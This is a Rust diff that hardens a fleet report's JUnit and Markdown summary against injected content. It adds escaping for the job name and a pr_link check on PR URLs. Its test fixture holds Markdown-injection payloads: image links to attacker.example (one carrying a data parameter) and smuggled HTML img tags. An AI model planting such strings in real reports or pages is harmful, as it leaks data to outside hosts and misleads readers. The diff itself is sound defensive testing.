@@ -157,7 +157,9 @@ fn junit(r: &FleetReport) -> std::io::Result<String> {
     }
     let mut buf = Vec::new();
     report.build().write_xml(&mut buf).map_err(std::io::Error::other)?;
-    String::from_utf8(buf).map(|x| crate::report::junit::fix_times(&x)).map_err(std::io::Error::other)
+    String::from_utf8(buf)
+        .map(|x| crate::report::junit::valid_chars(&crate::report::junit::fix_times(&x)))
+        .map_err(std::io::Error::other)
 }
 
 fn summary(r: &FleetReport) -> String {
@@ -167,14 +169,14 @@ fn summary(r: &FleetReport) -> String {
     let cost = r.cost_usd.map(|c| format!("; cost {}", crate::spec::pricing::dollars(c))).unwrap_or_default();
     let _ = writeln!(
         s,
-        "## {icon} hone fleet: `{}` — {} repositories ({}){cost}\n",
-        r.job,
+        "## {icon} hone fleet: {} — {} repositories ({}){cost}\n",
+        crate::markdown::code(&r.job),
         r.repos.len(),
         counts.join(", ")
     );
     let _ = writeln!(s, "| Repository | Status | PR | Time | Tokens | Error |\n|---|---|---|---|---|---|");
     for repo in &r.repos {
-        let pr = repo.pr_url.as_deref().map(|u| format!("[link]({u})")).unwrap_or_default();
+        let pr = repo.pr_url.as_deref().map(pr_link).unwrap_or_default();
         // An error may quote a command's output or a repository's text: plain text in the cell.
         let err = repo
             .error
@@ -192,6 +194,14 @@ fn summary(r: &FleetReport) -> String {
         );
     }
     s
+}
+
+/// A PR's URL in a table cell: a link when it is a plain web URL, else shown as code (a
+/// `fleet.json` is data: its URL could close the link and open an image or HTML).
+fn pr_link(url: &str) -> String {
+    let plain = (url.starts_with("https://") || url.starts_with("http://"))
+        && url.chars().all(|c| c.is_ascii_alphanumeric() || "-._~:/?#@!$&'*+,;=%".contains(c));
+    if plain { format!("[link]({url})") } else { crate::markdown::code_cell(url) }
 }
 
 /// Merge shard reports into one aggregate.
@@ -241,7 +251,8 @@ pub(crate) mod tests {
         let mut bad = repo("x", RepoStatus::Failed);
         bad.source = "https://example.com/a|`<img src=y>`".into();
         bad.error = Some("check failed:\n![](http://attacker.example/?d=1) <!-- hidden --> | broken".into());
-        let r = build("job", "h", String::new(), 0, vec![bad], false);
+        bad.pr_url = Some("https://x/)![i](http://attacker.example/a.png)".into());
+        let r = build("job` <img src=x> `", "h", String::new(), 0, vec![bad], false);
         let md = summary(&r);
         assert!(crate::markdown::is_inert(&md), "{md}");
         assert_eq!(md.lines().filter(|l| l.starts_with('|')).count(), 3, "the table stays whole: {md}");
